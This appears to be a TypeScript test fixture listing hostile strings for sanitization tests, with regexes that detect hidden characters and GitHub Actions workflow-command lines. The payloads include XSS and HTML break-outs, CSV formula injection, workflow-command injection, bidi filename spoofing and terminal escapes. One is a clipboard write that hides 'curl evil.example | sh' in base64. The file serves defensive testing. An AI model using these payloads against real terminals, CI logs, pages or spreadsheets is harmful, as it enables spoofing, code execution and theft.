/**
 * Tenant strings an attacker who can name an application, a group or an environment would try,
 * one per technique, for tests that push them through every output. Each entry says what it
 * attacks; `value` is the raw string as the API or a snapshot would hold it.
 */
export interface HostileString {
  name: string;
  value: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

export const HOSTILE_STRINGS: readonly HostileString[] = [
  { name: 'OSC 52 clipboard write', value: `app${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}` },
  { name: 'OSC 0 window title', value: `app${ESC}]0;pwned${BEL}` },
  { name: 'OSC 8 hyperlink', value: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\` },
  { name: 'SGR conceal and cursor up', value: `visible${ESC}[8mhidden${ESC}[0m${ESC}[2A${ESC}[2K` },
  { name: 'one-byte C1 CSI', value: 'c1\u009b31mred' },
  { name: 'DEL and NUL', value: 'del\u007fnul\u0000' },
  { name: 'TAB', value: 'tab\there' },
  { name: 'lone CR rewriting the line', value: 'Harmless app\rEVIL' },
  { name: 'newline starting a workflow command', value: 'app\n::error title=pwned::owned' },
  { name: 'workflow command at the start', value: '::stop-commands::token' },
  { name: 'indented workflow command', value: '  ::add-mask::x' },
  { name: 'legacy workflow command anywhere', value: 'app ##[error]pwned' },
  { name: 'right-to-left override', value: 'admin\u202Egpj.exe' },
  { name: 'bidi isolates and marks', value: '\u2066a\u2069\u2067b\u2069\u2068c\u2069\u200E\u200F\u061C' },
  { name: 'line and paragraph separators', value: 'line\u2028para\u2029end' },
  { name: 'lone surrogate', value: 'half\uD800pair' },
  { name: 'Markdown: backticks, HTML and details break-out', value: 'x`) <img src=x onerror=alert(1)> </details> (`y' },
  { name: 'Markdown: mention and team mention', value: '@octocat and @github/security' },
  { name: 'Markdown: bare URL and www autolinks', value: 'https://evil.example/login www.evil.example mailto:a@evil.example' },
  { name: 'Markdown: link, image, emphasis, table pipe, heading', value: '[click](https://evil.example) ![i](https://evil.example/i.png) **b** | # h' },
  { name: 'Markdown: math and issue reference', value: '$\\color{red}{PASS}$ #1' },
  { name: 'Markdown: list and quote starts', value: '- item' },
  { name: 'HTML: attribute break-out', value: '"><meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { name: 'HTML: single-quoted attribute break-out', value: "'><script>alert(1)</script>" },
  { name: 'CSV: formula at the start', value: '=HYPERLINK("https://evil.example","click")' },
  { name: 'CSV: formula after a semicolon', value: 'x;=HYPERLINK("https://evil.example")' },
  { name: 'CSV: formula after a comma and a space', value: 'x, @SUM(1+1)*cmd|calc' },
  { name: 'CSV: plus start', value: '+1+1' },
  { name: 'CSV: TAB then a formula', value: '\t=1+1' },
  { name: 'CSV: minus start', value: '-2+3' },
  {
    name: 'invisible characters',
    value: 'zw\u200Bsp\u200C\u200D\u2060\u2061\u2064\uFEFF\u180E\u00AD\uFE0F\u3164 tag\u{E0041}\u{E007F} music\u{1D173} nonchar\uFFFE\uFFFF nel\u0085',
  },
  { name: 'very long', value: 'L'.repeat(50_000) },
];

/**
 * Characters that no output carries raw, by Unicode's own properties (of the Node running the tests), apart from the
 * C0 controls: DEL and C1 controls, U+2028/U+2029, every Default_Ignorable_Code_Point (bidi controls, zero-width and
 * other invisible characters, tags) and the noncharacters U+FFFE/U+FFFF. The reference the code's set is checked against.
 */
export const HIDDEN_CHARACTER = /(?![\u0000-\u001F])[\p{Cc}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\uFFFE\uFFFF]/u;

/** Bytes that must never appear in terminal or stderr output: C0 controls but LF, and every {@link HIDDEN_CHARACTER}. */
export const RAW_TERMINAL_CONTROL = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u2028\u2029\p{Default_Ignorable_Code_Point}\uFFFE\uFFFF]/u;

/** A line the GitHub Actions runner would execute as a workflow command. */
export const WORKFLOW_COMMAND_LINE = /^\s*::|##\[/m;
